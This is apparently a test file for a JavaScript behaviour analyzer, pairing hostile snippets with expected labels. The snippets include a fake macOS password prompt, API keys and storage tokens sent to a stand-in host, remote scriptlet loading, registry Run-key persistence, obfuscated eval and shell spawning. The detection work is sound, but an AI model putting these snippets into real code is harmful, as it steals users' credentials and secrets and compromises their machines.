import { expect, test } from "vitest";
import { operationsOf } from "./read.ts";

// Calls that no case of corpus/ makes: what each does, as it is told.
test.each<[string, readonly string[]]>([
  [
    'Application.currentApplication().displayDialog("macOS needs your password", { hiddenAnswer: true }).textReturned;',
    ["escalate password-prompt", "read-secret keychain the login password, asked for as if the system did"],
  ],
  ['require("decompress")("a.zip", "out");', ["extract-archive a.zip"]],
  [
    'const AdmZip = require("adm-zip"); new AdmZip("a.zip").extractAllTo("out", true, true, "pw");',
    ["extract-archive a.zip with pw"],
  ],
  [
    'require("request").post("https://a.example/in").form({ k: process.env.API_KEY });',
    ["send http https://a.example/in", "read-secret $API_KEY", 'send http https://a.example/in [~{"k":…} <$API_KEY>]'],
  ],
  [
    'const r = require("https").request("https://a.example/in"); r.setHeader("x-k", process.env.API_KEY); r.end();',
    ["download https://a.example/in", "read-secret $API_KEY", "send http https://a.example/in [~… <$API_KEY>]"],
  ],
  [
    'const r = require("https").request({ host: "a.example", method: "POST" }); r.setHeader("x-k", process.env.API_KEY); r.end();',
    ["read-secret $API_KEY", "send http https://a.example [~… <$API_KEY>]"],
  ],
  [
    'const r = require("https").request("https://a.example/in"); r.setHeader("accept", "text/plain"); r.end();',
    ["download https://a.example/in"],
  ],
  [
    'new Audio("https://a.example/x?k=" + localStorage.getItem("token")).play();',
    [
      "read-secret browser-storage",
      "send image-url ~https://a.example/x?k=… <browser-storage> [~https://a.example/x?k=… <browser-storage>]",
    ],
  ],
  ["Deno.listen({ port: 4444 });", ["listen 0.0.0.0 4444"]],
  [
    'GetObject("script:https://a.example/x.sct");',
    ["download https://a.example/x.sct", "evaluate javascript ~… <https://a.example/x.sct>"],
  ],
  ['new ActiveXObject("Shell.Application").ShellExecute("cmd.exe", "/c calc");', ["spawn shell cmd.exe /c calc"]],
  [
    'new ActiveXObject("WScript.Shell").RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\x", "a.exe");',
    ["persist registry-run-key HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x a.exe"],
  ],
  [
    'const p = new Proxy(function () {}, { apply: (t, s, given) => eval(given[0]) }); p("alert(1)");',
    ["evaluate javascript alert(1)"],
  ],
  ['eval(Buffer.from("29312874726c61", "hex").reverse().toString());', ["evaluate javascript alrt(1) {reversed, hex}"]],
  ['require("fs").readFileSync(require("untildify")("~/notes.txt"));', ["read-file ~/notes.txt"]],
  ['require("child_process").spawn(require("which").sync("bash"), ["-c", "id"]);', ["spawn bash [-c, id]"]],
  ['process.mainModule.require("child_process").exec("id");', ["spawn shell id"]],
  ['require.main.require("child_process").exec("id");', ["spawn shell id"]],
  ['import { $ } from "zx"; const sh = $({ shell: true }); await sh`id`;', ["spawn shell id"]],
  ['import { $ } from "execa"; await $({ quiet: true })`id`;', ["spawn shell id"]],
  ['import { $ } from "execa"; $.sync({})`id`;', ["spawn shell id"]],
  [
    'fetch("https://a.example", { method: "POST", body: require("os").userInfo().username });',
    ["send http https://a.example [~… <`whoami`>]"],
  ],
])("%s", (text, expected) => {
  expect(operationsOf(text)).toEqual(expected);
});
